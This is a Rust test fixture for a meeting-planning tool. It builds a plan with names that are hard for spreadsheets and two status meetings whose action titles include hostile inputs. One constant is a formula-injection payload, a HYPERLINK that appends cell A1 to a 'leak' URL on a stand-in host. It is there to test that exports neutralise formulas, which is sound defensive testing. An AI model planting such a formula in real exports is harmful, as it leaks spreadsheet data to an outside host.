//! A plan whose people have names a spreadsheet garbles and emails for
//! some, and two status meetings of it with hostile action titles: what
//! the workbook, filter and attendee tests read back.

#![allow(dead_code)]

use std::path::{Path, PathBuf};

use crossterm::event::{KeyCode, KeyEvent};
use jiff::{Timestamp, tz::TimeZone};
use resetpoint::agenda::SectionKind;
use resetpoint::meeting::{Action, Clock, Meeting, update};
use resetpoint::plan::model::{AgendaName, Plan};
use resetpoint::record::format::Record;

/// A title that a spreadsheet would run if it were written as typed.
pub const FORMULA: &str = "=HYPERLINK(\"http://x.example/?leak=\"&A1,\"Click for details\")";
/// A title holding Excel's own escape for `A`.
pub const EXCEL_ESCAPE: &str = "Check _x0041_ in the export";

/// The demo plan with Ola as Søren Kjærgaard (with an email), Lin as 李梅
/// (without), an email for Sam, and Marcus with a quote and a caret in
/// his name.
pub fn plan_text() -> String {
    let mut plan = include_str!("../../assets/demo.toml")
        .replace("name = \"Ola Nordmann\"", "name = \"Søren Kjærgaard\"")
        .replace("name = \"Lin Chen\"", "name = \"李梅\"")
        .replace(
            "name = \"Marcus Bell\"",
            "name = \"Marcus \\\"Mac\\\" Bell^2\"",
        );
    for (id, email) in [
        ("ola", "soren@northwind.example"),
        ("sam", "sam.okafor@ourfirm.example"),
    ] {
        plan = plan.replace(
            &format!("id = \"{id}\"\n"),
            &format!("id = \"{id}\"\nemail = \"{email}\"\n"),
        );
    }
    plan
}

pub fn plan() -> Plan {
    resetpoint::plan::load_bytes("plan.toml", plan_text().as_bytes())
        .plan
        .expect("the test plan is valid")
}

/// A status meeting at `start`, with `actions` typed on the status screen
/// and `tasks` on the customer tasks screen (each `… @who due:…`).
fn meeting(start: &str, actions: &[&str], tasks: &[&str]) -> Record {
    let start: Timestamp = start.parse().unwrap();
    let mut m = Meeting::new(
        plan(),
        AgendaName::Status,
        Clock::at(start, TimeZone::UTC),
        false,
    );
    let enter = || Action::Type(KeyEvent::from(KeyCode::Enter));
    super::common::go_to(&mut m, SectionKind::Status);
    for line in actions {
        super::common::type_line(&mut m, Action::NewAction, line);
        // A second Enter takes an unknown @name as a guest.
        update(&mut m, enter());
    }
    super::common::go_to(&mut m, SectionKind::CustomerTasks);
    for line in tasks {
        super::common::type_line(&mut m, Action::CustomerTask, line);
        update(&mut m, enter());
    }
    Record::of(&m)
}

/// A folder with the plan (`plan.toml`) and its `meetings/`: a status
/// meeting on 24 Nov 2026 and one on 1 Dec 2026.
pub fn project() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    let plan_path = dir.path().join("plan.toml");
    std::fs::write(&plan_path, plan_text()).unwrap();
    let meetings = dir.path().join("meetings");
    std::fs::create_dir(&meetings).unwrap();
    let earlier = meeting(
        "2026-11-24T14:00:00Z",
        &[
            &format!("{FORMULA} @Søren due:2026-12-08"),
            "Send the revised plan @sam due:2026-12-01",
            "Book UAT rooms @kim",
        ],
        &["Sign the change request @sam due:2026-12-04"],
    );
    let later = meeting(
        "2026-12-01T14:00:00Z",
        &[
            "Confirm the scanner count @李梅 due:2026-12-03",
            &format!("{EXCEL_ESCAPE} @marcus"),
        ],
        &[],
    );
    write(&meetings, "2026-11-24-1400-status", &earlier);
    write(&meetings, "2026-12-01-1400-status", &later);
    (dir, plan_path)
}

fn write(dir: &Path, stem: &str, record: &Record) {
    std::fs::write(dir.join(format!("{stem}.toml")), record.to_toml()).unwrap();
}
